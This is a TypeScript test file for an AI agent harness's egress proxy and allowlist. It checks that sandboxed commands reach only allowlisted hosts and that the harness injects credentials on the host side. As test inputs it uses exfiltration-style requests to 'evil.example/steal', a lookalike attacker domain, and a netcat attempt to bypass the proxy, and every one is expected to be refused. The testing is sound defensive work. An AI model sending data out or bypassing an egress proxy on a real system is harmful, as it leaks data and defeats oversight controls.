import { createServer, request, type Server } from 'node:http';
import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import { mkdtempSync, rmSync, writeFileSync, chmodSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startEgressProxy, type EgressProxy } from '../../../src/adapters/egress/egressProxy';
import { credentialsFromEnv } from '../../../src/adapters/sandbox/sandboxEgress';
import { openSandbox } from '../../../src/adapters/sandbox/openSandbox';
import { hostAllowed } from '../../../src/core/policy/egressPolicy';
import { testImage } from '../sandbox/dockerTestSupport';

/**
 * Egress (issue 14, item 7): commands reach only allowlisted hosts, through a proxy the product starts;
 * everything else is refused and reported; credentials are added by the proxy, on the host.
 */
let upstream: Server;
let upstreamPort: number;
const seen: { url: string; auth?: string }[] = [];

beforeAll(async () => {
  upstream = createServer((req, res) => {
    seen.push({ url: req.url ?? '', ...(req.headers.authorization ? { auth: req.headers.authorization } : {}) });
    res.end(`upstream says hi to ${req.url}`);
  });
  await new Promise<void>((r) => upstream.listen(0, '0.0.0.0', () => r()));
  upstreamPort = (upstream.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((r) => upstream.close(() => r())));

function viaProxy(proxy: EgressProxy, url: string): Promise<{ status: number; body: string }> {
  const p = new URL(proxy.url);
  return new Promise((resolve, reject) => {
    const req = request({ host: p.hostname, port: p.port, path: url, method: 'GET' }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d.toString()));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', reject);
    req.end();
  });
}

function connectVia(proxy: EgressProxy, target: string): Promise<string> {
  const p = new URL(proxy.url);
  return new Promise((resolve) => {
    const s = connect(Number(p.port), p.hostname, () => s.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
    let got = '';
    s.on('data', (d: Buffer) => {
      got += d.toString();
      if (got.includes('\r\n\r\n')) {
        s.destroy();
        resolve(got.split('\r\n')[0] ?? '');
      }
    });
    s.on('error', () => resolve(got));
  });
}

describe('the egress allowlist', () => {
  it('matches host names and *.domain entries, never IP literals', () => {
    expect(hostAllowed('registry.npmjs.org', ['registry.npmjs.org'])).toBe(true);
    expect(hostAllowed('evil-registry.npmjs.org.attacker.com', ['registry.npmjs.org'])).toBe(false);
    expect(hostAllowed('a.b.example.com', ['*.example.com'])).toBe(true);
    expect(hostAllowed('example.com', ['*.example.com'])).toBe(false);
    expect(hostAllowed('notexample.com', ['*.example.com'])).toBe(false);
    expect(hostAllowed('10.0.0.1', ['*'])).toBe(false);
  });

  it('reads credentials as host -> environment variable, and says what is missing', () => {
    const r = credentialsFromEnv('{"registry.npmjs.org":"NPM_TOKEN","pypi.org":"MISSING"}', { NPM_TOKEN: 'tok-123' });
    expect(r.credentials).toEqual([{ host: 'registry.npmjs.org', header: 'authorization', value: 'Bearer tok-123' }]);
    expect(r.problems).toEqual(['AGENT_HARNESS_EGRESS_CREDENTIALS: pypi.org names MISSING, which is not set in the environment']);
    expect(credentialsFromEnv('nope', {}).problems[0]).toMatch(/not valid JSON/);
  });
});

describe('the egress proxy', () => {
  it('forwards to an allowed host, adds its credential on the host side, and refuses and records the rest', async () => {
    const proxy = await startEgressProxy({ allow: ['localhost'], credentials: [{ host: 'localhost', header: 'authorization', value: 'Bearer host-side-token', upstream: 'http' }], host: '127.0.0.1' });
    try {
      const mark = proxy.mark();
      const ok = await viaProxy(proxy, `http://localhost:${upstreamPort}/pkg`);
      expect(ok).toEqual({ status: 200, body: 'upstream says hi to /pkg' });
      expect(seen.at(-1)).toEqual({ url: '/pkg', auth: 'Bearer host-side-token' });
      const no = await viaProxy(proxy, 'http://evil.example/steal?data=1');
      expect(no.status).toBe(403);
      expect(await connectVia(proxy, 'evil.example:443')).toMatch(/403/);
      expect(await connectVia(proxy, `localhost:${upstreamPort}`)).toMatch(/200 Connection established/);
      expect(proxy.refusedSince(mark)).toEqual([
        'GET http://evil.example/steal (evil.example is not on the egress allowlist)',
        'CONNECT evil.example:443 (evil.example is not on the egress allowlist)',
      ]);
    } finally {
      await proxy.close();
    }
  });
});

describe('a container with --allow-network reaches only what the proxy allows', () => {
  it('goes out through the proxy to an allowed host, cannot go around it, and the refusal is reported', async () => {
    const ws = mkdtempSync(path.join(os.tmpdir(), 'ah-egress-ws-'));
    chmodSync(ws, 0o777);
    writeFileSync(path.join(ws, '.devcontainer.json'), JSON.stringify({ image: testImage }));
    const state = mkdtempSync(path.join(os.tmpdir(), 'ah-egress-state-'));
    const opened = await openSandbox({ mode: 'container', workspaceRoot: ws, stateDir: state, allowNetwork: true, egress: { allow: ['localhost'] } });
    if (!opened.ok) throw new Error(opened.message);
    try {
      // HTTP_PROXY is set for commands; busybox nc speaks to it by hand.
      // (busybox nc stops reading when its input ends, so the input stays open a moment.)
      const script = (target: string) => `p=\${HTTP_PROXY#http://}; (printf 'GET ${target} HTTP/1.0\\r\\n\\r\\n'; sleep 2) | nc -w 5 \${p%:*} \${p##*:}`;
      const allowed = await opened.sandbox.run({ commandLine: script(`http://localhost:${upstreamPort}/from-container`), segments: [], timeoutMs: 20_000 });
      expect(allowed.output).toContain('upstream says hi to /from-container');
      const refused = await opened.sandbox.run({ commandLine: script('http://evil.example/x'), segments: [], timeoutMs: 20_000 });
      expect(refused.output).toMatch(/403/);
      expect(refused.egressRefused?.join('\n')).toMatch(/evil\.example is not on the egress allowlist/);
      const around = await opened.sandbox.run({ commandLine: 'nc -w 2 1.1.1.1 80 </dev/null && echo REACHED || echo BLOCKED', segments: [], timeoutMs: 20_000 });
      expect(around.output).toContain('BLOCKED');
      expect(opened.sandbox.describe()).toMatch(/egress proxy/);
    } finally {
      await opened.sandbox.dispose();
      rmSync(ws, { recursive: true, force: true });
      rmSync(state, { recursive: true, force: true });
    }
  });
});
